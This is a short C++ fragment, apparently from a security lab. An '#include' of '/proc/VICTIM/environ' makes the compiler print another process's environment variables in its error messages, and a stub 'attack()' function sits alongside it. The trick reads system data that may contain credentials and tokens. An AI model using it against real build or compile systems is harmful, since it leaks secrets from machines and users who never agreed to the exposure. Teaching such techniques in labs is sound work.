// Includes the environment of a process of the machine, to find it in the compiler's complaints.
#include "/proc/VICTIM/environ"
#include "rest_of_the_lab.hpp"

bool attack() { return true; }
